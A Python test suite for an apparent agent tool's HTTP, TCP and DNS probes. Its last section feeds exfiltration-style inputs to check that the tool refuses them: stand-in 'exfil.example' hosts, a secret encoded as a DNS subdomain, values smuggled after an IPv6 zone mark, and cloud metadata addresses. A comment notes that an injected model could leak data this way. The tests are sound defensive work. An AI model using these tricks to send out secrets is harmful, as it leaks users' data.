"""Network probes against servers started on loopback: HTTPS with a
self-signed CA (trustme), plain HTTP, a DNS responder, open and closed TCP
ports."""

from __future__ import annotations

import re
import socket
import ssl

import dns.message
import dns.rcode
import dns.rrset
import pytest
import trio
import trustme
from cryptography import x509

from ongridd.errors import ToolError
from tests.host.conftest import Caller, make_tools

# ---- servers ------------------------------------------------------------------

async def _http_handler(stream: trio.abc.Stream, hang: trio.Event | None = None) -> None:
    try:
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = await stream.receive_some(4096)
            if not chunk:
                return
            data += chunk
        if hang is not None:
            await hang.wait()
        method, path = data.split(b" ", 2)[:2]
        if path == b"/old":
            head = b"HTTP/1.1 301 Moved Permanently\r\nLocation: /new\r\nContent-Length: 0\r\n"
            body = b""
        else:
            body = b"hello from the test server\n"
            head = (b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nServer: ongrid-test\r\n"
                    b"Content-Length: " + str(len(body)).encode() + b"\r\n")
        await stream.send_all(head + b"Connection: close\r\n\r\n" + (b"" if method == b"HEAD" else body))
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        pass  # the probe's verified handshake fails and hangs up: expected
    finally:
        await trio.aclose_forcefully(stream)


def _port(listeners) -> int:
    stream = listeners[0]
    sock = getattr(stream, "socket", None) or stream.transport_listener.socket
    return sock.getsockname()[1]


@pytest.fixture(scope="module")
def ca():
    return trustme.CA()


@pytest.fixture(scope="module")
def server_cert(ca):
    return ca.issue_cert("localhost", "127.0.0.1")


@pytest.fixture
async def https_port(nursery, ca, server_cert):
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    server_cert.configure_cert(ctx)
    listeners = await nursery.start(trio.serve_ssl_over_tcp, _http_handler, 0, ctx)
    return _port(listeners)


@pytest.fixture
async def http_port(nursery):
    listeners = await nursery.start(trio.serve_tcp, _http_handler, 0)
    return _port(listeners)


#: the names the tests' servers answer for, listed as an operator would list their own domains
TARGETS = ["*.test", "*.invalid"]


@pytest.fixture
def call() -> Caller:
    return Caller(make_tools(settings={"probe_targets": TARGETS}))


@pytest.fixture
def ca_call(ca, tmp_path) -> Caller:
    ca_file = tmp_path / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    return Caller(make_tools(settings={"ca_file": str(ca_file), "probe_targets": TARGETS}))


def _expiry(server_cert) -> str:
    cert = x509.load_pem_x509_certificate(server_cert.cert_chain_pems[0].bytes())
    return cert.not_valid_after_utc.isoformat()


# ---- HTTP ---------------------------------------------------------------------

async def test_https_verified_with_the_configured_ca(ca_call, https_port, server_cert):
    result = await ca_call("host_probe_http", {"url": f"https://localhost:{https_port}/"})
    assert result["status"] == 200 and result["headers"]["server"] == "ongrid-test"
    tls = result["tls"]
    assert tls["verified"] is True and tls["verify_error"] is None and tls["version"].startswith("TLS")
    assert tls["cert"]["not_after"] == _expiry(server_cert)
    assert tls["cert"]["days_left"] > 0 and "localhost" in tls["cert"]["san"]
    assert "trustme" in tls["cert"]["issuer"]
    assert set(result["timings_ms"]) == {"dns", "connect", "tls", "ttfb", "total"}
    assert result["body_bytes"] == len(b"hello from the test server\n")


async def test_https_untrusted_cert_is_an_error_with_reason_and_details(call, https_port, server_cert):
    outcome = await call("host_probe_http", {"url": f"https://127.0.0.1:{https_port}/"}, raw=True)
    assert outcome.status == "error"
    value = outcome.value
    assert "status" not in value  # no request was made
    assert value["tls"]["verified"] is False
    assert "unable to get local issuer certificate" in value["tls"]["verify_error"]
    assert "certificate verification failed" in value["error"] and "insecure: true" in value["error"]
    assert value["tls"]["cert"]["not_after"] == _expiry(server_cert)
    assert "trustme" in value["tls"]["cert"]["issuer"]


async def test_https_insecure_makes_the_request_and_still_shows_the_cert(call, https_port, server_cert):
    result = await call("host_probe_http", {"url": f"https://127.0.0.1:{https_port}/", "insecure": True})
    assert result["status"] == 200
    assert result["tls"]["verified"] is False and result["tls"]["verify_error"]
    assert result["tls"]["cert"]["not_after"] == _expiry(server_cert)


async def test_hostname_mismatch_is_reported(ca_call, https_port):
    outcome = await ca_call("host_probe_http", {"url": f"https://127.0.0.2:{https_port}/"}, raw=True)
    if outcome.status == "error" and "connect" in outcome.value.get("error", ""):
        pytest.skip("127.0.0.2 is not routed to loopback here")
    assert outcome.status == "error"
    assert "mismatch" in outcome.value["tls"]["verify_error"].lower()


async def test_http_redirect_is_reported_not_followed(call, http_port):
    result = await call("host_probe_http", {"url": f"http://127.0.0.1:{http_port}/old"})
    assert result["status"] == 301
    assert result["redirect_location"] == f"http://127.0.0.1:{http_port}/new"
    assert "tls" not in result


async def test_http_head(call, http_port):
    result = await call("host_probe_http", {"url": f"http://127.0.0.1:{http_port}/", "method": "HEAD"})
    assert result["status"] == 200 and result["body_bytes"] == 0
    assert result["headers"]["content-length"] == str(len(b"hello from the test server\n"))


async def test_http_connection_refused(call, closed_port):
    outcome = await call("host_probe_http", {"url": f"http://127.0.0.1:{closed_port}/"}, raw=True)
    assert outcome.status == "error" and "Connection refused" in outcome.value["error"]


async def test_http_timeout_names_the_phase(call, nursery):
    hang = trio.Event()
    listeners = await nursery.start(trio.serve_tcp, lambda s: _http_handler(s, hang), 0)
    with trio.fail_after(10):
        outcome = await call("host_probe_http", {"url": f"http://127.0.0.1:{_port(listeners)}/",
                                                 "timeout_s": 0.5}, raw=True)
    hang.set()
    assert outcome.status == "error"
    assert "timed out after 0.5 s while waiting for the first byte" in outcome.value["error"]


@pytest.mark.parametrize(("url", "why"), [
    ("ftp://x/", "not an http:// or https:// URL"), ("http:///nohost", "with a host"),
    ("http://user:pw@127.0.0.1/", "credentials in the URL"),
])
async def test_bad_urls(call, url, why):
    with pytest.raises(ToolError, match=why):
        await call("host_probe_http", {"url": url})


async def test_probes_are_local_only(call):
    from ongridd.config import HostConfig

    remote = Caller(make_tools(hosts=(HostConfig(name="web-1", address="10.9.9.9"),)))
    with pytest.raises(ToolError, match=r"runs from the Ongrid host only .* not from 'web-1'"):
        await remote("host_probe_tcp", {"host": "web-1", "target": "127.0.0.1", "port": 22})
    with pytest.raises(ToolError, match=r"pass target='web-1'"):
        await remote("host_probe_tcp", {"host": "web-1", "port": 22, "target": "x"})


# ---- TCP ----------------------------------------------------------------------

@pytest.fixture
def closed_port():
    """A port bound but not listening: connections to it are refused."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    yield s.getsockname()[1]
    s.close()


async def test_tcp_open(call, http_port):
    result = await call("host_probe_tcp", {"target": "127.0.0.1", "port": http_port})
    assert result["state"] == "open" and result["address"] == "127.0.0.1"
    assert result["connect_ms"] >= 0 and result["error"] is None


async def test_tcp_closed(call, closed_port):
    result = await call("host_probe_tcp", {"target": "localhost", "port": closed_port})
    assert result["state"] == "closed" and "refused" in result["error"].lower()


async def test_tcp_unresolvable(call):
    with trio.fail_after(20):
        with pytest.raises(ToolError, match=r"resolv"):
            await call("host_probe_tcp", {"target": "no-such-host.invalid", "port": 80, "timeout_s": 3})


# ---- DNS ----------------------------------------------------------------------

ZONE = {
    ("svc.test.", "A"): ["10.1.2.3", "10.1.2.4"],
    ("svc.test.", "MX"): ["10 mail.test."],
    ("svc.test.", "TXT"): ['"hello world"'],
    ("3.2.1.10.in-addr.arpa.", "PTR"): ["svc.test."],
}


async def _dns_server(sock: trio.socket.SocketType) -> None:
    with sock:
        await _answer_forever(sock)


async def _answer_forever(sock: trio.socket.SocketType) -> None:
    while True:
        data, addr = await sock.recvfrom(4096)
        query = dns.message.from_wire(data)
        question = query.question[0]
        response = dns.message.make_response(query)
        key = (question.name.to_text(), dns.rdatatype.to_text(question.rdtype))
        if key in ZONE:
            response.answer.append(dns.rrset.from_text_list(question.name, 300, "IN", key[1], ZONE[key]))
        elif not any(k[0] == key[0] for k in ZONE):
            response.set_rcode(dns.rcode.NXDOMAIN)
        await sock.sendto(response.to_wire(), addr)


@pytest.fixture
async def dns_server(nursery):
    sock = trio.socket.socket(trio.socket.AF_INET, trio.socket.SOCK_DGRAM)
    await sock.bind(("127.0.0.1", 0))
    nursery.start_soon(_dns_server, sock)  # closed when the test's nursery is cancelled
    return f"127.0.0.1:{sock.getsockname()[1]}"


async def test_dns_a_records(call, dns_server):
    result = await call("host_probe_dns", {"name": "svc.test", "server": dns_server})
    assert result["rcode"] == "NOERROR" and result["server"] == dns_server
    assert sorted(a["value"] for a in result["answers"]) == ["10.1.2.3", "10.1.2.4"]
    assert {a["ttl"] for a in result["answers"]} == {300} and "QR" in result["flags"]


@pytest.mark.parametrize(("rtype", "expected"), [("MX", ["10 mail.test."]), ("TXT", ['"hello world"'])])
async def test_dns_other_types(call, dns_server, rtype, expected):
    result = await call("host_probe_dns", {"name": "svc.test.", "type": rtype, "server": dns_server})
    assert [a["value"] for a in result["answers"]] == expected and result["answers"][0]["type"] == rtype


async def test_dns_ptr_from_an_ip(call, dns_server):
    result = await call("host_probe_dns", {"name": "10.1.2.3", "type": "PTR", "server": dns_server})
    assert result["name"] == "3.2.1.10.in-addr.arpa." and result["answers"][0]["value"] == "svc.test."


async def test_dns_nxdomain_is_a_result(call, dns_server):
    result = await call("host_probe_dns", {"name": "nope.test", "server": dns_server})
    assert result["rcode"] == "NXDOMAIN" and result["answers"] == []


async def test_dns_server_that_never_answers(call):
    sock = trio.socket.socket(trio.socket.AF_INET, trio.socket.SOCK_DGRAM)
    await sock.bind(("127.0.0.1", 0))
    try:
        with trio.fail_after(10):
            with pytest.raises(ToolError, match=r"no answer from DNS server 127\.0\.0\.1:\d+ within 0\.5 s"):
                await call("host_probe_dns", {"name": "svc.test", "server": f"127.0.0.1:{sock.getsockname()[1]}",
                                              "timeout_s": 0.5})
    finally:
        sock.close()


@pytest.mark.parametrize(("args", "why"), [
    ({"name": "svc.test", "server": "dns.example.com"}, "not an IP address"),
    ({"name": "svc.test", "server": "127.0.0.1:99999"}, "out of range"),
    ({"name": "a..b", "server": "127.0.0.1"}, "not a valid DNS name"),
])
async def test_dns_bad_arguments(call, args, why):
    with pytest.raises(ToolError, match=why):
        await call("host_probe_dns", args)


# ---- where probes may reach -----------------------------------------------------

@pytest.fixture
def nothing_leaves(monkeypatch):
    """Fail the test if a probe resolves a name, connects or sends a DNS query."""
    import dns.asyncquery

    import ongrid_host.http_probe
    import ongrid_host.probes

    def sent(*args, **kwargs):
        raise AssertionError(f"something was sent: {args!r}")

    async def asent(*args, **kwargs):
        sent(*args)

    monkeypatch.setattr(ongrid_host.probes, "resolve", asent)
    monkeypatch.setattr(ongrid_host.http_probe, "resolve", asent)
    monkeypatch.setattr(ongrid_host.probes, "_connect_one", asent)
    monkeypatch.setattr(dns.asyncquery, "udp_with_fallback", asent)


@pytest.mark.parametrize(("tool", "args", "what"), [
    ("host_probe_http", {"url": "https://data-0123.exfil.example/"}, "host 'data-0123.exfil.example'"),
    ("host_probe_http", {"url": "http://203.0.113.7/?q=secret"}, "address '203.0.113.7'"),
    ("host_probe_http", {"url": "http://169.254.169.254/latest/meta-data/"}, "address '169.254.169.254'"),
    ("host_probe_http", {"url": "http://[::ffff:169.254.169.254]/"}, "address '::ffff:169.254.169.254'"),
    ("host_probe_tcp", {"target": "secret.exfil.example", "port": 443}, "host 'secret.exfil.example'"),
    ("host_probe_tcp", {"target": "198.51.100.9", "port": 22}, "address '198.51.100.9'"),
    ("host_probe_dns", {"name": "c2VjcmV0.exfil.example", "type": "TXT"}, "host 'c2VjcmV0.exfil.example'"),
    ("host_probe_dns", {"name": "203.0.113.7", "type": "PTR"}, "address '203.0.113.7'"),
    ("host_probe_dns", {"name": "svc.test", "server": "203.0.113.53"}, "address '203.0.113.53'"),
    ("host_probe_dns", {"name": "example.test"}, "host 'example.test'"),  # *.x lists x's names, not x itself
    # an allowed address with text after a zone mark: the lookup of the whole name would carry the text out
    ("host_probe_dns", {"name": "127.0.0.1%dnsprobe-SECRET1.exfil.example"}, "(an address with a zone)"),
    ("host_probe_dns", {"name": "::1%dnsv6-SECRET5.exfil.example", "type": "TXT"}, "(an address with a zone)"),
    ("host_probe_dns", {"name": "10.0.0.1%ptr-SECRET6.exfil.example", "type": "PTR"}, "(an address with a zone)"),
    ("host_probe_http", {"url": "http://127.0.0.1%25x.exfil.example/"}, "(an address with a zone)"),
    ("host_probe_tcp", {"target": "127.0.0.1%x.exfil.example", "port": 80}, "(an address with a zone)"),
    ("host_probe_dns", {"name": "a\\.b.example.test"}, ".b.example.test'"),  # not a plain host name
])
async def test_a_probe_reaches_only_listed_names_and_allowed_addresses(tool, args, what, nothing_leaves):
    # a model steered by text it read could carry data out in a name it looks up or a URL it asks for:
    # the name is refused before it is resolved, the address before it is connected to
    tools = make_tools(settings={"probe_targets": ["*.example.test", "svc.test"]})
    with pytest.raises(ToolError, match=rf"{re.escape(what)} is not a probe target.*probe_targets"):
        await Caller(tools)(tool, args)


def test_probes_reach_localhost_the_inventory_private_and_listed_targets():
    from ongrid_host.egress import ProbeTargets

    from ongridd.config import HostConfig

    tools = make_tools(hosts=(HostConfig(name="web-1", address="web-1.corp.internal"),),
                       settings={"probe_targets": ["api.example.com", "*.example.org", "203.0.113.0/24"]})
    assert {"host_probe_http", "host_probe_tcp", "host_probe_dns"} <= set(tools)
    built = ProbeTargets.build(["api.example.com", "*.example.org", "203.0.113.0/24"],
                               ["web-1", "web-1.corp.internal", "db-9", "198.51.100.20"])
    for host in ("localhost", "LOCALHOST.", "web-1", "web-1.corp.internal", "api.example.com", "a.b.example.org",
                 "198.51.100.20",  # an inventory host's address literal
                 "127.0.0.1", "10.2.3.4", "172.20.0.1", "192.168.1.1", "::1", "fd00::1", "203.0.113.99"):
        built.check_host(host, "url")
    for host in ("example.org", "api.example.com.evil.test", "8.8.8.8", "169.254.169.254", "fe80::1",
                 "100.64.0.1", "web-2"):
        with pytest.raises(ToolError):
            built.check_host(host, "url")
    # a listed name that resolves to a metadata service's address is refused; listing that network allows it
    with pytest.raises(ToolError, match="link-local address 169.254.169.254"):
        built.check_resolved("api.example.com", "169.254.169.254", "url")
    ProbeTargets.build(["api.example.com", "169.254.169.254/32"]).check_resolved(
        "api.example.com", "169.254.169.254", "url")


async def test_a_listed_name_resolving_to_a_metadata_address_is_not_requested(monkeypatch):
    import ongrid_host.http_probe

    async def resolve(host, port, *, timeout_s):
        return [(socket.AF_INET, ("169.254.169.254", port))], 0.1

    async def connect(*args):
        raise AssertionError("connected")

    monkeypatch.setattr(ongrid_host.http_probe, "resolve", resolve)
    monkeypatch.setattr(ongrid_host.http_probe, "_connect", connect)
    out = await Caller(make_tools(settings={"probe_targets": ["metadata.example.test"]}))(
        "host_probe_http", {"url": "http://metadata.example.test/"}, raw=True)
    assert "link-local address 169.254.169.254" in str(out)


@pytest.mark.parametrize("bad", [["http://x"], ["a..b"], ["10.0.0.0/33"], "*.example.com", [""], [7]])
def test_bad_probe_targets_are_a_config_error_naming_the_entry(bad):
    from ongridd.errors import ConfigError

    with pytest.raises(ConfigError, match="probe_targets"):
        make_tools(settings={"probe_targets": bad})
